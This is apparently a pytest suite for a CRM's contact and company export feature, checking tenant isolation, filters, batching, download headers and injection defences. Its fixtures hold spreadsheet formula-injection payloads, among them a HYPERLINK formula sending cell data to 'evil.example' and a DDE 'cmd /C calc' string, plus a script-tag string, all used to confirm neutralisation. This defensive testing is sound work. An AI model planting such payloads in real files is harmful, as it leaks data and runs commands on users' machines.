"""Export contents: each format parsed back equals the tenant's rows; formula injection neutralised;
markup escaped; filters applied; rows read in keyset batches."""

from __future__ import annotations

import csv
import io
import zipfile
from datetime import UTC, datetime
from xml.etree import ElementTree

import pytest
from openpyxl import load_workbook
from sqlalchemy import select

from tests.test_exports import admin, export_dir, exported  # noqa: F401 - fixtures
from webapp import tenancy
from webapp.crm.models import Contact
from webapp.exports import cells, sources

NS = "{urn:bizalom:export:1}"
TRIGGERS = ("=", "+", "-", "@", "\t", "\r")
PAYLOADS = ("=HYPERLINK(\"http://evil.example/?x=\"&A1,\"Click\")", "+cmd|' /C calc'!A0", "@SUM(1+1)", "-2+3",
            "\t=1+1", "\r=1+1")
CONTACT_COLUMNS = ["id", "first_name", "last_name", "email", "phone", "company", "created_at"]


def iso(moment: datetime) -> str:
    return moment.astimezone(UTC).strftime("%Y-%m-%dT%H:%M:%SZ")


def quoted(value: str) -> str:
    """The OWASP rule, written independently of the code under test."""
    return "'" + value if value and value[0] in TRIGGERS else value


def contacts_of(db_session, tenant) -> list[tuple]:
    """The tenant's live contacts as (id, first, last, email, phone, company name, created_at)."""
    with tenancy.scoped(tenant.id):
        db_session.expire_all()
        found = db_session.scalars(select(Contact).where(Contact.deleted_at.is_(None)).order_by(Contact.id)).all()
        return [(c.id, c.first_name, c.last_name, c.email, c.phone, c.company.name if c.company else None,
                 c.created_at) for c in found]


def parse_csv(content: bytes) -> list[list[str]]:
    assert content.startswith(b"\xef\xbb\xbf")
    return list(csv.reader(io.StringIO(content.decode("utf-8-sig"), newline="")))


def parse_xlsx(content: bytes) -> list[tuple]:
    sheet = load_workbook(io.BytesIO(content)).active
    return [tuple(cell for cell in row) for row in sheet.iter_rows()]


def parse_xml(content: bytes) -> tuple[ElementTree.Element, list[dict]]:
    root = ElementTree.fromstring(content)  # noqa: S314 - our own output, parsed to check it
    return root, [{child.tag.removeprefix(NS): child.text or "" for child in element} for element in root]


@pytest.fixture()
def two_tenants(db_session, admin, make):  # noqa: F811 - pytest fixture
    company = make.company(admin.tenant, name="Ács és Társa Kft.")
    make.contact(admin.tenant, first_name="Éva", last_name="Ács", phone="+36201234567", company_id=company.id)
    make.contact(admin.tenant, first_name="", last_name="O'Brien, \"Jr\"", email=None, phone=None)
    make.contact(admin.tenant, last_name="Trashed", deleted_at=datetime.now(UTC))
    other = make.tenant()
    make.contact(other, last_name="Foreign", company_id=make.company(other, name="Foreign Kft.").id)
    db_session.commit()
    return admin


def test_csv_equals_the_tenants_rows(db_session, two_tenants, client, csrf, login, run_jobs, export_dir):  # noqa: F811
    login(two_tenants)
    _, content = exported(client, csrf, run_jobs, format="csv")
    header, *rows = parse_csv(content)
    expected = [[str(i), quoted(f), quoted(la), e or "", quoted(p or ""), quoted(c or ""), iso(t)]
                for i, f, la, e, p, c, t in contacts_of(db_session, two_tenants.tenant)]
    assert header == CONTACT_COLUMNS and rows == expected and len(rows) == 2
    assert rows[0][4] == "'+36201234567"  # OWASP: a CSV never trusts a leading +


def test_xlsx_equals_the_tenants_rows(db_session, two_tenants, client, csrf, login, run_jobs, export_dir):  # noqa: F811
    login(two_tenants)
    _, content = exported(client, csrf, run_jobs, format="xlsx")
    header, *rows = parse_xlsx(content)
    assert [cell.value for cell in header] == CONTACT_COLUMNS
    expected = [(i, f or None, la, e, p, c, t.astimezone(UTC).replace(tzinfo=None, microsecond=0))
                for i, f, la, e, p, c, t in contacts_of(db_session, two_tenants.tenant)]
    assert [tuple(cell.value for cell in row) for row in rows] == expected
    phone = rows[0][4]
    assert (phone.value, phone.data_type, phone.quotePrefix) == ("+36201234567", "s", True)


def test_xml_equals_the_tenants_rows(db_session, two_tenants, client, csrf, login, run_jobs, export_dir):  # noqa: F811
    login(two_tenants)
    _, content = exported(client, csrf, run_jobs, format="xml")
    root, rows = parse_xml(content)
    assert root.tag == f"{NS}contacts" and {element.tag for element in root} == {f"{NS}contact"}
    expected = []
    for i, f, la, e, p, c, t in contacts_of(db_session, two_tenants.tenant):
        values = {"id": str(i), "first_name": f, "last_name": la, "email": e, "phone": p, "company": c,
                  "created_at": iso(t)}
        expected.append({key: value for key, value in values.items() if value is not None})
    assert rows == expected


def test_companies_export(db_session, admin, make, client, csrf, login, run_jobs, export_dir):  # noqa: F811
    make.company(admin.tenant, name="Acme Kft.", city="Szeged", country="HU")
    make.company(admin.tenant, name="Zeta GmbH", city="Wien", country="AT")
    make.company(admin.tenant, name="Acme Trash", deleted_at=datetime.now(UTC))
    make.company(make.tenant(), name="Acme Foreign")
    db_session.commit()
    login(admin)
    _, content = exported(client, csrf, run_jobs, entity="companies", format="csv", search="ac")
    header, *rows = parse_csv(content)
    assert header == ["id", "name", "city", "country", "created_at"]
    assert [row[1:4] for row in rows] == [["Acme Kft.", "Szeged", "HU"]]
    _, content = exported(client, csrf, run_jobs, entity="companies", format="xml", include_trashed="y")
    assert sorted(row["name"] for row in parse_xml(content)[1]) == ["Acme Kft.", "Acme Trash", "Zeta GmbH"]


def test_contact_filters_company_and_trash(db_session, admin, make, client, csrf, login, run_jobs,  # noqa: F811
                                           export_dir):  # noqa: F811
    firm = make.company(admin.tenant, name="Firm")
    make.contact(admin.tenant, last_name="In", company_id=firm.id)
    make.contact(admin.tenant, last_name="Binned", company_id=firm.id, deleted_at=datetime.now(UTC))
    make.contact(admin.tenant, last_name="Out")
    firm_id = firm.id
    db_session.commit()
    login(admin)
    assert "Only the contacts of Firm" in client.get(f"/exports?company_id={firm_id}").get_data(as_text=True)
    _, content = exported(client, csrf, run_jobs, company_id=str(firm_id), include_trashed="y")
    assert sorted(row[2] for row in parse_csv(content)[1:]) == ["Binned", "In"]


def test_formula_payloads_are_neutralised_in_csv_and_xlsx(db_session, admin, make, client, csrf, login,  # noqa: F811
                                                          run_jobs, export_dir):  # noqa: F811
    for payload in PAYLOADS:
        make.contact(admin.tenant, first_name=payload, last_name=payload, phone="+cmd|' /C calc'!A0",
                     company_id=make.company(admin.tenant, name=payload).id)
    make.contact(admin.tenant, last_name="#N/A", email="=1+1@example.com")
    db_session.commit()
    login(admin)
    _, content = exported(client, csrf, run_jobs, format="csv")
    rows = parse_csv(content)[1:]
    for row, payload in zip(rows, PAYLOADS, strict=False):
        assert row[1:3] == ["'" + payload] * 2 and row[4] == "'+cmd|' /C calc'!A0" and row[5] == "'" + payload
    assert rows[-1][2:4] == ["#N/A", "'=1+1@example.com"]

    _, content = exported(client, csrf, run_jobs, format="xlsx")
    sheet_xml = zipfile.ZipFile(io.BytesIO(content)).read("xl/worksheets/sheet1.xml").decode()
    assert "<f>" not in sheet_xml and "<f " not in sheet_xml  # no formula anywhere
    rows = parse_xlsx(content)[1:]
    for row, payload in zip(rows, PAYLOADS, strict=False):
        # XML parsers may read a carriage return back as a line feed (Excel's own line break in a cell)
        values = [cell.value.replace("\r", "\n") for cell in row[1:3]]
        assert values == ["'" + payload.replace("\r", "\n")] * 2
        assert row[4].value == "'+cmd|' /C calc'!A0" and not row[4].quotePrefix  # not a phone number
        assert all(cell.data_type == "s" for cell in row[1:6])
    assert (rows[-1][2].value, rows[-1][2].data_type) == ("#N/A", "s")  # text, not an error value


def test_markup_is_escaped_in_xml_and_inert_in_csv(db_session, admin, make, client, csrf, login, run_jobs,  # noqa: F811
                                                   export_dir):  # noqa: F811
    evil = '<script>alert("x")</script> & <b>Co</b> ]]> \r\n'
    make.contact(admin.tenant, first_name=evil, last_name="Ctrl\x0bchar\x01")
    db_session.commit()
    login(admin)
    _, content = exported(client, csrf, run_jobs, format="xml")
    assert b"<script>" not in content and b"&lt;script&gt;" in content
    root, rows = parse_xml(content)  # well-formed, despite the control characters
    assert rows[0]["first_name"] == evil and rows[0]["last_name"] == "Ctrl\ufffdchar\ufffd"
    export_id, content = exported(client, csrf, run_jobs, format="csv")
    assert parse_csv(content)[1][1] == evil
    response = client.get(f"/exports/{export_id}")
    response.close()
    _, content = exported(client, csrf, run_jobs, format="xlsx")
    assert parse_xlsx(content)[1][2].value == "Ctrl\ufffdchar\ufffd"


def test_download_is_an_attachment_never_rendered(db_session, admin, make, client, csrf, login, run_jobs,  # noqa: F811
                                                  export_dir):  # noqa: F811
    from tests.test_exports import download_link, start_export

    db_session.commit()
    login(admin)
    for fmt, mime in (("csv", "text/csv; charset=utf-8"), ("xml", "application/xml; charset=utf-8"),
                      ("xlsx", "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet")):
        export_id = start_export(client, csrf, format=fmt)
        run_jobs()
        response = client.get(download_link(client, export_id))
        assert response.headers["Content-Type"] == mime and response.headers["X-Content-Type-Options"] == "nosniff"
        assert response.headers["Content-Disposition"].startswith("attachment;")
        assert response.headers["Content-Disposition"].endswith(f".{fmt}") and "no-store" in response.headers[
            "Cache-Control"]
        response.close()


def test_keyset_batches_cover_every_row_once(db_session, admin, make):  # noqa: F811
    for n in range(7):
        make.contact(admin.tenant, last_name=f"Batch{n}")
    make.contact(make.tenant(), last_name="Foreign")
    with tenancy.scoped(admin.tenant_id):
        entity = sources.ENTITIES["contacts"]
        batches = list(sources.batches(entity, {}, size=3))
        assert [len(batch) for batch in batches] == [3, 3, 1]
        ids = [row[0] for batch in batches for row in batch]
        assert ids == sorted(ids) and len(set(ids)) == 7 == sources.count(entity, {})
        assert sources.count(sources.ENTITIES["companies"], {}) == 0


@pytest.mark.parametrize(("value", "expected"), [
    ("=1+1", "'=1+1"), ("+36 20 123 4567", "'+36 20 123 4567"), ("-5", "'-5"), ("@x", "'@x"), ("\tx", "'\tx"),
    ("\rx", "'\rx"), ("plain", "plain"), ("", ""), ("a=b", "a=b"), ("'=already", "'=already"),
])
def test_the_owasp_rule(value, expected):
    assert cells.neutralise(value) == expected


@pytest.mark.parametrize(("value", "phone"), [
    ("+36201234567", True), ("+36 20 123 4567", True), ("+49 30 123456", True), ("+36 1 234 5678", True),
    ("+cmd|' /C calc'!A0", False), ("+1+1", False), ("+36201234567+HYPERLINK", False), ("36201234567", False),
    ("+0000000", False),
])
def test_phone_numbers_are_recognised_strictly(value, phone):
    assert cells.is_phone_number(value) is phone
